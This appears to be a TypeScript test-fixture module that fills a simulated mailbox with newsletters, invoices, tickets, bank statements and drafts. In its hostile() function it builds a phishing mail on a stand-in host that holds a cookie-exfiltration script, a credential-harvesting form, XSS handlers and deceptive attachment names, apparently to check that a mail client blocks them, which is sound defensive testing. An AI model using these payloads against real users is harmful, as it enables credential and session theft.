/** Mail that stands for itself: newsletters, invoices, tickets, notices, drafts, and what protection is for. */
import { isoSeconds } from '../../world/clock.ts';
import type { World } from '../../world/world.ts';
import { partners, type Cast, type Colleague } from './cast.ts';
import { invitation, invoice, pdf } from './document.ts';
import { htmlDocument, paragraphs, writeLetter, type Letter } from './letter.ts';
import { logo } from './picture.ts';

const day = 86_400_000;

const topics: readonly (readonly [subject: string, lead: string])[] = [
  [
    'Oak is back',
    'Why light oak is in every second new shop this autumn, and how to keep it from turning yellow.',
  ],
  ['Small rooms, long walls', 'Five shops of less than 40 m² that feel twice as large.'],
  ['The quiet café', 'Felt, cork and books: what really swallows noise, measured.'],
  ['Light after six', 'Two planners show the same room with one lamp, with six, and with twenty.'],
  ['Tiles that tell stories', 'A visit to a workshop that still paints each tile by hand.'],
  ['Colour of the year', 'It is green. Again. We asked ten painters what they think.'],
];

/** A newsletter as they come: tables, colours, a remote picture, a pixel that counts readers. */
function newsletter(to: Colleague, number: number, sent: number): Letter {
  const [subject, lead] = topics[number % topics.length] ?? ['News', ''];
  const rows = topics.map(
    ([title, text]) =>
      `<tr><td style="padding:12px;border-bottom:1px solid #ddd"><h3 style="margin:0;color:#1d5c63">${title}</h3><p>${text}</p><a href="https://www.litware.example/read/${number}">Read on</a></td></tr>`,
  );
  const inner = `<table width="600" align="center" cellpadding="0" cellspacing="0" style="font-family:Georgia,serif"><tr><td bgcolor="#1d5c63" style="padding:16px;color:#fff"><h1>Interior Weekly</h1><p>No. ${40 + number}</p></td></tr><tr><td style="padding:12px"><h2>${subject}</h2><p>${lead}</p><img src="https://img.litware.example/${number}.jpg" width="560" alt="${subject}"></td></tr>${rows.join('\r\n')}<tr><td style="font-size:9pt;color:#888;padding:12px">You get this because ${to.address} is on our list. <a href="https://www.litware.example/leave">Leave the list</a></td></tr></table><img src="https://count.litware.example/open?id=${number}" width="1" height="1" alt="">`;
  return {
    from: partners.magazine,
    to: [to],
    subject: `Interior Weekly: ${subject}`,
    body: { type: 'html', content: htmlDocument(inner) },
    sent,
    headers: [
      'List-Id: <weekly.litware.example>',
      'List-Unsubscribe: <https://www.litware.example/leave>',
      'Precedence: bulk',
    ],
  };
}

function supplies(to: Colleague, number: number, sent: number): Letter {
  const id = `PR-${7100 + number * 13}`;
  const lines = [
    { text: 'Paper A4, 5 packs', amount: 24.5 },
    { text: 'Pencils 2H', amount: 8.4 + number },
  ];
  return {
    from: partners.office,
    to: [to],
    subject: `Your order ${id} and invoice`,
    body: {
      type: 'html',
      content: htmlDocument(
        `<p><img src="cid:mark" alt="Proseware" width="96" height="32"></p>${paragraphs(`Dear ${to.name},\n\nthank you for your order ${id}. It leaves our house today. The invoice is attached.\n\nProseware Office Supplies`)}`,
      ),
    },
    sent,
    enclosures: [
      {
        name: 'mark.png',
        contentType: 'image/png',
        bytes: logo([250, 250, 250], [176, 62, 40]),
        contentId: 'mark',
      },
      {
        name: `Invoice ${id}.pdf`,
        contentType: 'application/pdf',
        bytes: invoice(id, 'Proseware Office Supplies', to.name, lines),
      },
    ],
  };
}

function ticket(to: Colleague, number: number, sent: number): Letter {
  return {
    from: partners.travel,
    to: [to],
    subject: `Your ticket to ${['Bergen', 'Lisbon', 'Kraków', 'Αθήνα'][number % 4] ?? 'Bergen'}`,
    body: {
      type: 'text',
      content: `Dear ${to.name},\r\n\r\nyour ticket is attached. Platform and coach are shown one hour before departure.\r\n\r\nTailspin Rail\r\n`,
    },
    sent,
    enclosures: [
      {
        name: 'ticket.pdf',
        contentType: 'application/pdf',
        bytes: pdf('Ticket', [
          `Passenger: ${to.givenName}`,
          `Booking: TS${4400 + number}`,
          'Second class, window',
        ]),
      },
      {
        name: 'journey.ics',
        contentType: 'text/calendar',
        bytes: invitation('Journey', partners.travel.address, sent + 9 * day),
      },
    ],
  };
}

/** A phishing mail with everything at once. Nothing in it can do harm; all of it should be shown to be stopped. */
function hostile(to: Colleague, sent: number): Letter {
  const content = `<!DOCTYPE html><html><head><title>Account</title><base href="https://login.woodgrove-secure.example/"><meta http-equiv="refresh" content="3;url=https://login.woodgrove-secure.example/go"><style>@import url("https://login.woodgrove-secure.example/x.css"); body{background:url(https://login.woodgrove-secure.example/bg.png)}</style><script>document.location='https://login.woodgrove-secure.example/'+document.cookie</script></head><body onload="alert(document.domain)"><p>Dear ${to.name},</p><p>your account was <b>locked</b>. Sign in within 24 hours:</p><form action="https://login.woodgrove-secure.example/steal" method="post"><input name="user" value="${to.address}"><input name="password" type="password"><button>Sign in</button></form><p><a href="javascript:alert(1)">https://www.woodgrove.example</a> <a href="https://login.woodgrove-secure.example/?u=${to.address}">www.woodgrove.example</a></p><img src="https://login.woodgrove-secure.example/open.gif?u=${to.address}" onerror="alert(2)" width="1" height="1"><iframe src="https://login.woodgrove-secure.example/frame"></iframe><svg onload="alert(3)"><script>alert(4)</script></svg><object data="https://login.woodgrove-secure.example/a.swf"></object><p style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:9999">Loading …</p></body></html>`;
  return {
    from: { name: 'Woodgrove Bank Security', address: 'no-reply@woodgrove-secure.example' },
    to: [to],
    subject: '⚠ Your account is locked ⚠',
    body: { type: 'html', content },
    sent,
    importance: 'high',
    enclosures: [
      {
        name: 'statement.pdf.html',
        contentType: 'text/html',
        bytes: Buffer.from('<script>alert("opened")</script><h1>Sign in</h1>'),
      },
      {
        name: '\u202egnp.exe.txt',
        contentType: 'text/plain',
        bytes: Buffer.from('Only a text with a name that reads backwards.\r\n'),
      },
    ],
  };
}

function forwarded(to: Colleague, inner: Letter, sent: number): Letter {
  return {
    from: partners.nadia,
    to: [to],
    subject: 'Is this one yours?',
    body: {
      type: 'html',
      content: htmlDocument(
        paragraphs('Hello,\n\nthis came to me by mistake. Does it belong to you?\n\nNadia'),
      ),
    },
    sent,
    enclosures: [{ name: inner.subject, contentType: 'message/rfc822', bytes: writeLetter(inner) }],
  };
}

function draft(from: Colleague, number: number, sent: number): Letter {
  const texts = [
    'Dear Ingrid,\n\nabout the chairs: I would',
    'Ideas for the stand at the fair\n\n– oak frame\n– felt walls\n– one large lamp',
  ];
  return {
    from,
    to: number % 2 === 0 ? [partners.ingrid] : [],
    subject: number % 2 === 0 ? 'Chairs' : 'Fair: ideas',
    body: { type: 'html', content: htmlDocument(paragraphs(texts[number % 2] ?? '')) },
    sent,
  };
}

const statement = (to: Colleague, number: number, sent: number): Letter => ({
  from: partners.bank,
  to: [to],
  subject: `Statement ${number + 1}/2026`,
  body: { type: 'text', content: 'Your statement is ready. It is attached to this message.\r\n' },
  sent,
  enclosures: [
    {
      name: `statement-${number + 1}.pdf`,
      contentType: 'application/pdf',
      bytes: pdf('Statement', [`Number ${number + 1}`, `Balance EUR ${(18_240 + number * 731).toFixed(2)}`]),
    },
  ],
});

/** Each colleague's own mail. */
export function sendSingles(world: World, cast: Cast, newest: number): void {
  for (const [index, to] of cast.colleagues.entries()) {
    const put = (folder: string, letter: Letter, isRead: boolean, isDraft = false): void => {
      const receivedDateTime = isoSeconds(letter.sent + 5_000);
      const flagged = folder === 'Inbox' && (letter.sent / day) % 7 < 1;
      world.mail.deliver(to.userId, folder, writeLetter(letter), {
        isRead,
        isDraft,
        flagged,
        receivedDateTime,
      });
    };
    const at = (days: number): number => newest - days * day - (index * 37 + days * 11) * 60_000;
    for (let week = 0; week < 6; week++)
      put('Inbox/Newsletters', newsletter(to, week + index, at(week * 7 + 1)), week > 1);
    for (let month = 0; month < 3; month++)
      put('Inbox', supplies(to, month * 10 + index, at(month * 28 + 5)), month > 0);
    put('Inbox', ticket(to, index, at(13)), true);
    for (let month = 0; month < 2; month++) put('Archive', statement(to, month, at(month * 30 + 70)), true);
    put('Junk Email', hostile(to, at(2)), false);
    if (index === 0) put('Inbox', hostile(to, at(6)), true);
    if (index < 2) put('Inbox', forwarded(to, supplies(to, 90 + index, at(40)), at(8)), index === 0);
    put('Deleted Items', newsletter(to, 9 + index, at(80)), true);
    put('Drafts', draft(to, index, at(1)), true, true);
  }
}
